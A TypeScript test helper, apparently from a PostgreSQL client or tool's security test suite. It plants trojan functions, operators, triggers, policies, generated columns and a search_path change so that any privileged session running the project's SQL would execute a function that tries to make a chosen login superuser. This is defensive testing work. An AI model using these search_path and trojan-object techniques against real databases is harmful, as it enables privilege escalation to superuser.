import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { quoteIdent, quoteLiteral } from '../../src/sql/quote.ts'
import type { Sql } from './postgres.ts'
import { sourceTexts } from './sql-texts.ts'

const root = join(import.meta.dirname, '..', '..')

/** Names of the functions that our SQL calls. */
function calledFunctions(): string[] {
  const texts = globSync('src/**/*.ts', { cwd: root })
    .filter((file) => !file.endsWith('.test.ts'))
    .flatMap((file) => sourceTexts(readFileSync(join(root, file), 'utf8')))
  return [
    ...new Set(texts.flatMap(({ text }) => [...text.matchAll(/pg_catalog\.([a-z_0-9]+)\(/g)].map(([, name]) => name!))),
  ].sort()
}

/** Types that stand for a polymorphic argument: what an application can name exactly beats the server's own function. */
const concrete: Record<string, string[]> = {
  anyarray: ['text[]', 'smallint[]', 'oid[]', 'integer[]', 'name[]', 'aclitem[]'],
  anyelement: ['text', 'integer', 'name', 'oid', 'json'],
  any: ['text', 'integer', 'name', 'json'],
}

/**
 * Plants, as an application that owns its database, everything that could make somebody else's session run its code: functions and
 * operators with the exact types that our SQL uses, triggers, rules, policies, checks, index expressions, generated columns, defaults,
 * and settings. Whatever runs leaves a mark in `public.seen` when it had more rights than the application, and tries to make it a
 * superuser.
 *
 * @param app        a session of the application
 * @param login      who is to become superuser
 * @param database   its name
 */
export async function plant(app: Sql, { login, database }: { login: string; database: string }): Promise<number> {
  await app.unsafe(evil(login))
  let planted = 0
  const tried = async (statement: string) => {
    await app.unsafe(statement).then(
      () => planted++,
      () => {},
    )
  }
  const names = calledFunctions()
  const functions = await app.unsafe<{ name: string; arguments: string[]; result: string; set: boolean }[]>(`
    select p.proname as name, to_json(array(select format_type(t, null) from unnest(p.proargtypes) with ordinality a(t, i) order by i))::text as args,
           format_type(p.prorettype, null) as result, p.proretset as set
      from pg_proc p where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.provariadic = 0
       and p.proname in (${names.map(quoteLiteral).join(', ')}) order by 1, 2`)
  for (const row of functions) {
    const args = JSON.parse((row as unknown as { args: string }).args) as string[]
    for (const types of variants(args)) await tried(shadow(row.name, types, row.result, row.set))
  }
  for (const operator of [
    '=',
    '<>',
    '<',
    '>',
    '~',
    '!~',
    '~~',
    '!~~',
    '||',
    '->',
    '->>',
    '<@',
    '@>',
    '+',
    '-',
    '*',
    '/',
  ]) {
    for (const type of [
      'text',
      'name',
      'oid',
      'integer',
      'bigint',
      'boolean',
      'json',
      'jsonb',
      '"char"',
      'text[]',
      'aclitem',
    ]) {
      const result = ['||', '->', '->>', '+', '-', '*', '/'].includes(operator) ? type : 'boolean'
      const name = `op_${planted}`
      await tried(`create function public.${name}(a ${type}, b ${type}) returns ${result} language plpgsql as $$ begin perform public.evil('operator ${operator}'); return a operator(pg_catalog.${operator}) b; end $$;
        create operator public.${operator} (function = public.${name}, leftarg = ${type}, rightarg = ${type})`)
    }
  }
  await app.unsafe(`alter database ${quoteIdent(database)} set search_path = public, pg_catalog`)
  for (const setting of [
    'row_security = off',
    `"TimeZone" = 'Asia/Kolkata'`,
    `"DateStyle" = 'German, DMY'`,
    'check_function_bodies = off',
    `default_transaction_isolation = 'repeatable read'`,
  ])
    await app.unsafe(`alter database ${quoteIdent(database)} set ${setting}`)
  return planted
}

/** On each table of the application: triggers, rules, policies, a check, an index on an expression, a generated column. */
export async function plantOnTables(app: Sql): Promise<void> {
  await app.unsafe(`
    create function public.evil_trigger() returns trigger language plpgsql as $$ begin
      perform public.evil('trigger on ' || tg_relid::pg_catalog.regclass::text);
      if tg_level = 'STATEMENT' then return null; end if; if tg_op = 'DELETE' then return old; end if; return new; end $$;
    create function public.evil_check(anyelement) returns boolean language plpgsql immutable as $$ begin perform public.evil('check'); return true; end $$;
    create function public.evil_text(anyelement) returns text language plpgsql immutable as $$ begin perform public.evil('expression'); return 'x'; end $$`)
  const tables = await app.unsafe<{ name: string; key: string }[]>(`
    select pg_catalog.format('%I.%I', n.nspname, c.relname) as name, (select pg_catalog.quote_ident(a.attname) from pg_catalog.pg_attribute a where a.attrelid = c.oid and a.attnum = 1) as key
      from pg_catalog.pg_class c join pg_catalog.pg_namespace n on n.oid = c.relnamespace
     where c.relkind = 'r' and n.nspname in ('public', 'app') and c.relname <> 'seen' order by 1`)
  for (const [i, { name, key }] of tables.entries()) {
    await app.unsafe(`
      create trigger evil_row before insert or update or delete on ${name} for each row execute function public.evil_trigger();
      create trigger evil_statement after insert or update or delete or truncate on ${name} for each statement execute function public.evil_trigger();
      alter table ${name} add constraint evil_${i} check (public.evil_check(${key})),
        add column evil_generated text generated always as (public.evil_text(${key})) stored,
        add column evil_default text default public.evil_text(1);
      create index evil_index_${i} on ${name} (public.evil_text(${key}));
      create policy evil on ${name} using (public.evil_check(1)) with check (public.evil_check(1));
      alter table ${name} enable row level security;
      create view public.evil_view_${i} as select *, public.evil_text(1) as evil_more from ${name};
      create materialized view public.evil_matview_${i} as select public.evil_text(1) as x`)
  }
}

/** Every combination of concrete types for a function's arguments, at most a few. */
function variants(args: string[]): string[][] {
  return args
    .map((type) => concrete[type.replaceAll('"', '')] ?? [type])
    .reduce<string[][]>((all, types) => all.flatMap((head) => types.map((type) => [...head, type])), [[]])
    .slice(0, 12)
}

function shadow(name: string, types: string[], result: string, isSet: boolean): string {
  const values = types.map((_, i) => `$${i + 1}`).join(', ')
  const call = `pg_catalog.${quoteIdent(name)}(${values})`
  const returns = /^any/.test(result) ? (types[0] ?? 'text').replace(/\[\]$/, '') : result
  const answer =
    result === 'void'
      ? `perform ${call}; return`
      : isSet
        ? `return query select * from ${call}; return`
        : `return ${call}`
  return `create function public.${quoteIdent(name)}(${types.join(', ')}) returns ${isSet ? 'setof ' : ''}${returns} language plpgsql as
    ${quoteLiteral(`begin perform public.evil('function ${name}'); ${answer}; end`)}`
}

const evil = (login: string) => `
  create sequence public.seen_times;
  create table public.seen (what text, who text, session text);
  grant all on public.seen, public.seen_times to public;
  create function public.evil(what text) returns void language plpgsql set search_path = pg_catalog as $evil$
  declare before text := current_user;
  begin
    begin execute 'reset session authorization'; exception when others then null; end;
    begin execute 'set role none'; exception when others then null; end;
    if exists (select from pg_catalog.pg_roles r where r.rolname in (before, current_user, session_user)
                  and (r.rolsuper or r.rolcreaterole or r.rolcreatedb) and not r.rolname operator(pg_catalog.=) ${quoteLiteral(login)}) then
      perform pg_catalog.nextval('public.seen_times');
      begin insert into public.seen values (what, before, session_user); exception when others then null; end;
      raise warning 'EVIL ran: % as % in a session of %', what, before, session_user;
    end if;
    begin execute ${quoteLiteral(`alter role ${quoteIdent(login)} superuser`)}; exception when others then null; end;
    begin execute pg_catalog.format('set role %I', before); exception when others then null; end;
  end $evil$;
  grant execute on function public.evil(text) to public`
